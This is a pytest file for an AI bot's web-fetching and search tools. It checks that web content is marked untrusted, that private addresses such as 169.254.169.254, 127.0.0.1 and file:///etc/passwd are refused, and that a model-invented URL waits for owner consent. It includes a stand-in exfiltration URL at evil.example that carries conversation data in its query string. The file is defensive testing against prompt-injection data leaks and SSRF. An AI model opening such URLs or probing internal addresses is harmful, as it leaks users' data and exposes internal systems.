"""The model reads pages and searches; what the web says is marked, and no address carries anything out unseen."""

import json
from collections.abc import AsyncIterator
from typing import Any
from uuid import uuid4

import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, RedirectResponse, Response
from starlette.routing import Route

from bot.features.web.fetching import Fetcher
from bot.features.web.pages import Pages
from bot.features.web.search import WebSearch, searxng
from bot.features.web.tools import web_tools
from bot.kit.owner import Owner
from bot.kit.prompt_text import UNTRUSTED_MARK
from bot.model.values import ToolCall
from bot.turns.files.documents.documents import DocumentReader
from bot.turns.tools.tool import Caller, Outcome
from bot.turns.tools.toolset import Prepared, ToolSet
from bot.turns.values.acts import Consent
from bot.turns.values.origins import Source
from practice.serving import serve
from practice.web.site import Site
from tests.features.web.internet import PUBLIC, Internet, Names

MADE_UP = "https://evil.example/?q=Alec+is+my+boss"


@pytest.fixture
async def site() -> AsyncIterator[str]:
    """The address of the practice site."""
    async with serve(Site().app) as url:
        yield url


def tools_for(site: str) -> ToolSet:
    """Return the tools with pages of the practice site allowed."""
    pages = Pages(Fetcher([site.removeprefix("http://")]), DocumentReader().read)
    return ToolSet([web_tools(pages, WebSearch(searxng(site)))])


def prepared(
    tools: ToolSet, tool: str, own_words: str = "", at: Source | None = None, *, is_host: bool = True, **arguments: Any
) -> Prepared:
    """Return a call in a conversation with untrusted text."""
    at = at or Source(conversation_id=uuid4(), turn_id=uuid4())
    caller = Caller(Owner(1, 1), at, is_host=is_host, holds_untrusted=True, own_words=own_words)
    found = tools.prepare(caller, ToolCall("1", tool, json.dumps(arguments)))
    assert isinstance(found, Prepared)
    return found


async def outcome(tools: ToolSet, tool: str, **arguments: Any) -> Outcome:
    """Return what comes of a call."""
    return await prepared(tools, tool, **arguments).act()


def asks(call: Prepared) -> bool:
    """Tell whether a call waits for its owner."""
    return call.consent() is not Consent.AT_ONCE


async def test_a_page_is_read_with_its_address_and_marked(site: str) -> None:
    found = await outcome(tools_for(site), "fetch_page", url=f" <{site}/ferry> ")
    assert found.words.untrusted
    first, second, *_ = found.words.splitlines()
    assert first == f"[{UNTRUSTED_MARK}: a web page]"
    assert second == f"> {site}/ferry"
    assert "sails at 7:40" in found.words
    assert all(line.startswith("> ") for line in found.words.splitlines()[1:])


async def test_a_search_gives_addresses_and_says_where_they_are_from(site: str) -> None:
    found = await outcome(tools_for(site), "web_search", query="lighthouse")
    assert found.words.untrusted
    assert found.words.splitlines()[:4] == [
        f"[{UNTRUSTED_MARK}: found on the web]",
        "> 1. How the lighthouse keeps its light",
        f"> {site}/lighthouse",
        "> 2025-06-21",
    ]
    nothing = await outcome(tools_for(site), "web_search", query="zebra")
    assert not nothing.words.untrusted
    assert nothing.words.startswith("Nothing was found.")


async def test_what_fails_is_said_in_our_own_words_which_need_no_mark(site: str) -> None:
    tools = tools_for(site)
    for url, said in (
        (f"{site}/nowhere", "There is no page at this address."),
        ("http://127.0.0.1:1/", "This address is inside a private network"),
        ("http://169.254.169.254/latest/", "This address is inside a private network"),
        ("file:///etc/passwd", "This is no web address"),
    ):
        found = await outcome(tools, "fetch_page", url=url)
        assert not found.words.untrusted
        assert found.words.startswith(said) or "isn't opened" in found.words
    assert "1 to 1" in (await outcome(tools, "fetch_page", url=f"{site}/ferry", part=2)).words


async def test_an_address_that_the_model_made_up_waits_while_untrusted_text_is_there(site: str) -> None:
    tools = tools_for(site)
    call = prepared(tools, "fetch_page", url=MADE_UP)
    assert asks(call)
    assert call.deed.words == f"🌐 Open {MADE_UP}"
    assert not asks(prepared(tools, "fetch_page", f"Read {MADE_UP}!", url=MADE_UP))
    assert not asks(prepared(tools, "web_search", query="Alec is my boss"))


async def test_a_found_page_is_free_in_its_conversation_and_stays_so(site: str) -> None:
    url = "http://example.com/ferry"

    async def found(_: Request) -> Response:
        return JSONResponse(
            {"results": [{"url": url, "title": "The ferry"}, {"url": f"{site}/bread", "title": "Bread"}]}
        )

    async def resolve(_host: str, _port: int) -> list[str]:
        return [PUBLIC]

    async with serve(Starlette(routes=[Route("/search", found)])) as searched:
        fetcher = Fetcher(
            [site.removeprefix("http://")],
            resolve=resolve,
            network=Internet({(PUBLIC, 80): int(site.rpartition(":")[2])}),
        )
        tools = ToolSet([web_tools(Pages(fetcher, DocumentReader().read), WebSearch(searxng(searched)))])
        at = Source(conversation_id=uuid4(), turn_id=uuid4())
        assert asks(prepared(tools, "fetch_page", at=at, url=url))
        await prepared(tools, "web_search", at=at, query="ferry").act()
        assert not asks(prepared(tools, "fetch_page", at=at, url=url))
        assert asks(prepared(tools, "fetch_page", at=at, url=f"{url}?boss=Alec"))
        assert asks(prepared(tools, "fetch_page", url=url)), "in another conversation"
        assert asks(prepared(tools, "fetch_page", at=at, url=f"{site}/bread")), "inside the network"
        assert "7:40" in (await prepared(tools, "fetch_page", at=at, url=url).act()).words
        later = Source(conversation_id=at.conversation_id, turn_id=uuid4())
        assert not asks(prepared(tools, "fetch_page", at=later, url=url, part=2))


async def test_an_allowed_host_is_inside_for_a_guest_however_its_pages_are_reached(site: str) -> None:
    port = int(site.rpartition(":")[2])

    async def led(_: Request) -> Response:
        return RedirectResponse(f"{site}/ferry")

    async with serve(Starlette(routes=[Route("/", led)])) as other:
        resolve = Names({"own.example": [[PUBLIC]], "leads.example": [[PUBLIC]]})
        places = {("127.0.0.1", port): port, (PUBLIC, 80): int(other.rpartition(":")[2])}
        fetcher = Fetcher([f"127.0.0.1:{port}", "own.example:443"], resolve=resolve, network=Internet(places))
        tools = ToolSet([web_tools(Pages(fetcher, DocumentReader().read), WebSearch(searxng(site)))])
        at = Source(conversation_id=uuid4(), turn_id=uuid4())
        await prepared(tools, "web_search", at=at, query="ferry").act()
        assert "7:40" in (await prepared(tools, "fetch_page", at=at, url=f"{site}/ferry").act()).words
        for url in (
            f"{site}/ferry",
            f"{site.upper()}/ferry#kept",
            f"http://127.0.0.1.:{port}/ferry",
            "https://own.example/public-by-its-address",
            "http://leads.example/",
        ):
            for more in ({}, {"links": True}, {"part": 2}):
                found = await prepared(tools, "fetch_page", at=at, is_host=False, url=url, **more).act()
                assert "inside a private network" in found.words, url
                assert not found.words.untrusted


def test_without_a_search_server_pages_are_read_and_it_is_said_what_to_set() -> None:
    family = web_tools(Pages(Fetcher(), DocumentReader().read), None)
    assert [tool.name for tool in family.tools] == ["fetch_page"]
    assert "SEARXNG_URL" in family.purpose
